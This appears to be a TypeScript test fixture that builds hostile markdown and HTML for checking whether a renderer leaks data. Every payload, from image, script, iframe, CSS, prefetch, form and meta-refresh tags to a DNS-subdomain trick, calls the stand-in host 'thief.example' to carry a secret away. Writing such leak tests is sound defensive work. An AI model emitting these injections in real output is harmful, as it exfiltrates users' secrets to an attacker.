/** Where stolen words would go. The name exists at the recording proxy alone. */
export const THIEF = 'thief.example';

/** Everything that a text could try, if it were more than text; `secret` is what it wants to carry away. */
export function hostileText(secret: string): string {
  const url = `http://${THIEF}/take?words=${secret}`;
  return [
    `![diagram](${url}&by=image) and [a link](${url}&by=link), <${url}&by=autolink>, ${url}&by=bare`,
    `[script](javascript:fetch('${url}&by=javascript')) [data](data:text/html,<script>fetch('${url}')</script>)`,
    `<img src="${url}&by=img" onerror="fetch('${url}&by=onerror')"><script>fetch('${url}&by=script')</script>`,
    `<iframe src="${url}&by=iframe"></iframe><object data="${url}&by=object"></object><embed src="${url}&by=embed">`,
    `<link rel="prefetch" href="${url}&by=prefetch"><link rel="preconnect" href="http://${secret}.${THIEF}">`,
    `<link rel="stylesheet" href="${url}&by=stylesheet"><style>body{background:url("${url}&by=css")}</style>`,
    `<form action="${url}&by=form"><input name="a"><button>Go</button></form><meta http-equiv="refresh" content="0;url=${url}">`,
    `<video src="${url}&by=video" autoplay></video><audio src="${url}&by=audio"></audio><svg><image href="${url}&by=svg"/></svg>`,
    `<base href="http://${THIEF}/"><a href="${url}&by=ping" ping="${url}&by=ping">x</a>`,
    `![ref][r]\n\n[r]: ${url}&by=reference "t"`,
    `\`\`\`html\n<img src="${url}&by=code">\n\`\`\``,
    `| a | b |\n| - | - |\n| ![x](${url}&by=table) | <img src="${url}&by=cell"> |`,
  ].join('\n\n');
}
